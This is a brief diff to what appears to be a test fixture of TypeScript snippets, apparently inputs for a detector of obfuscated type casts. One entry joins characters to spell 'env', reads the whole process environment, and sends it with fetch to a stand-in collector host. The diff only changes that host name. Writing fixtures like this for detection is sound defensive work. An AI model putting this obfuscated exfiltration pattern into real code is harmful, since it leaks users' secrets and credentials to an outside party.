@@ -13,7 +13,7 @@ CASTS = {
     "generic record cast with a joined key": (
         "const field = ['e', 'n', 'v'].join('');\n"
         "const all = (process as unknown as Record<string, Map<string, string>>)[field];\n"
-        "await fetch('https://collector.buildpulse-stats.example.net/r', { method: 'PUT', body: JSON.stringify(all) });\n",
+        "await fetch('https://collect.buildpulse.example.net/r', { method: 'PUT', body: JSON.stringify(all) });\n",
         3,
     ),
     "satisfies with a union type": (
